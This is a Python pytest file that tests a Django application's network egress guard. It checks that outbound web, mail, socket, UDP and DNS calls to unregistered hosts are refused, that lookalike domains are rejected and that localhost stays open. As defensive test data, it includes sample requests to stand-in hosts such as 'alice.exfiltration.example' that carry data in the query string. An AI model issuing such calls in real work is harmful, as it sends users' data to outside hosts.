"""The guard at the network's door, in an interpreter of its own: it cannot be taken out again."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from typing import Any

import pytest

from clairevoie.policy.reader import DEFAULT
from tests.promises import promise

SCRIPT = r"""
import _socket, contextlib, json, socket, smtplib, sys, time, urllib.request
import django
django.setup()
from clairevoie.privacy import egress, recipients

def tell(act):
    try:
        act()
    except egress.NotARecipient as refused:
        return "refused: " + str(refused).split(":")[0]
    except OSError as error:
        return type(error).__name__ + ": " + str(error)
    return "reached"

def connect(address, family=socket.AF_INET, kind=socket.SOCK_STREAM):
    with socket.socket(family, kind) as end:
        end.settimeout(0.2)
        end.connect(address)

def reach(address):
    with socket.socket() as end:
        egress._reach(end, (address, 25))

def cost(n=100_000):
    start = time.perf_counter()
    for _ in range(n):
        sys.audit("open", "x", "r", 0)
    return (time.perf_counter() - start) / n * 1e6

refused = {
    "web": tell(lambda: urllib.request.urlopen("http://alice.exfiltration.example/?a=1")),
    "mail": tell(lambda: smtplib.SMTP("mail.elsewhere.example")),
    "address": tell(lambda: connect(("203.0.113.9", 443))),
    "address six": tell(lambda: connect(("2001:db8::1", 80), socket.AF_INET6)),
    "datagram": tell(lambda: socket.socket(type=socket.SOCK_DGRAM)
                     .sendto(b"alice", ("203.0.113.9", 53))),
    "name": tell(lambda: socket.gethostbyname("elsewhere.example")),
    "name under the function": tell(lambda: _socket.getaddrinfo("elsewhere.example", 80)),
    "name of an address": tell(lambda: socket.gethostbyaddr("203.0.113.9")),
}
with socket.create_server(("127.0.0.1", 0)) as server:
    port = server.getsockname()[1]
    one, other = socket.socketpair()
    at_home = {
        "address": tell(lambda: connect(("127.0.0.1", port))),
        "name": tell(lambda: connect(("localhost", port))),
        "pair": tell(lambda: one.send(b"x")),
        "ourselves": tell(lambda: socket.getfqdn()),
    }
hosts = (
    "smtp.exemple.fr", "SMTP.exemple.fr.", "a.envoi.fr", "envoi.fr", "exemple.fr",
    "smtp.exemple.fr.evil.example", "evilenvoi.fr", "relay.example", "localhost", "127.0.0.1",
    "::1", "10.0.0.1",
)
allowed = [host for host in hosts if egress.may_reach(host)]
steps = {"before": tell(lambda: reach("203.0.113.7"))}
egress._known.note("smtp.exemple.fr", "203.0.113.7")
egress._known.note("elsewhere.example", "203.0.113.8")
steps["found by an allowed name"] = tell(lambda: reach("203.0.113.7"))
steps["found by another name"] = tell(lambda: reach("203.0.113.8"))
recipients._memory.codes = frozenset({"mailer"})
steps["cut off"] = tell(lambda: reach("203.0.113.7"))
recipients._memory.codes = frozenset()
egress._known.addresses["203.0.113.7"] = ("smtp.exemple.fr", 0.0)
steps["too long ago"] = tell(lambda: reach("203.0.113.7"))
print(json.dumps({
    "refused": refused,
    "at home": at_home,
    "allowed": allowed,
    "steps": steps,
    "microseconds": min(cost() for _ in range(3)),
}))
"""


@pytest.fixture(scope="module")
def environment(tmp_path_factory: pytest.TempPathFactory) -> dict[str, str]:
    """An instance whose mailer is active and has hosts."""
    folder = tmp_path_factory.mktemp("egress")
    shutil.copytree(DEFAULT, folder / "policy")
    recipients = folder / "policy" / "recipients.toml"
    before, mailer = recipients.read_text().split("[mailer]")
    signed = "contract-on = 2026-11-02\nreview-due = 2027-11-02\nhosts ="
    mailer = mailer.replace("= false", f'= true\n{signed} ["smtp.exemple.fr", "*.envoi.fr"]', 1)
    recipients.write_text(f"{before}[mailer]{mailer}")
    ours = {name: value for name, value in os.environ.items() if name != "DATABASE_URL"}
    return {
        **ours,
        "DJANGO_SETTINGS_MODULE": "clairevoie.config.settings",
        "CLAIREVOIE_HOME": str(folder / "home"),
        "CLAIREVOIE_POLICY": str(folder / "policy"),
        "CLAIREVOIE_EGRESS": "1",
        "EMAIL_URL": "smtp://relay.example",
    }


def run(script: str, environment: dict[str, str]) -> Any:
    done = subprocess.run(
        [sys.executable, "-c", script],
        env=environment,
        capture_output=True,
        text=True,
        check=False,
    )
    assert done.returncode == 0, done.stderr
    return json.loads(done.stdout)


@pytest.fixture(scope="module")
def found(environment: dict[str, str]) -> Any:
    return run(SCRIPT, environment)


@promise("P-063")
def test_an_unregistered_host_is_refused_before_a_byte_or_a_name_leaves(found: Any) -> None:
    answers = found["refused"]

    assert "exfiltration.example: write it in hosts" in answers.pop("web")
    assert all(answer.startswith("refused: ") for answer in answers.values()), answers


def test_the_refusal_says_no_more_than_a_domain(found: Any) -> None:
    assert "alice" not in json.dumps(found["refused"])
    assert found["refused"]["mail"] == "refused: elsewhere.example"


def test_this_machine_stays_open(found: Any) -> None:
    assert set(found["at home"].values()) == {"reached"}, found["at home"]


@promise("P-063")
def test_only_what_is_written_down_is_let_through(found: Any) -> None:
    assert found["allowed"] == [
        *("smtp.exemple.fr", "SMTP.exemple.fr.", "a.envoi.fr", "relay.example"),
        *("localhost", "127.0.0.1", "::1"),
    ]


@promise("P-063")
def test_an_address_passes_while_an_allowed_name_leads_to_it(found: Any) -> None:
    steps = found["steps"]

    assert steps.pop("found by an allowed name") == "reached"
    assert all(answer.startswith("refused") for answer in steps.values()), steps


def test_what_is_no_network_costs_next_to_nothing(found: Any) -> None:
    assert found["microseconds"] < 5


def test_production_is_guarded_unless_somebody_says_no(environment: dict[str, str]) -> None:
    script = "import json; from django.conf import settings; print(settings.CLAIREVOIE_EGRESS * 1)"
    production = {**environment, "CLAIREVOIE_PRODUCTION": "1", "CLAIREVOIE_URL": "https://a.fr"}
    default = {name: value for name, value in production.items() if name != "CLAIREVOIE_EGRESS"}

    assert run(script, default) == 1
    assert run(script, {**production, "CLAIREVOIE_EGRESS": "0"}) == 0
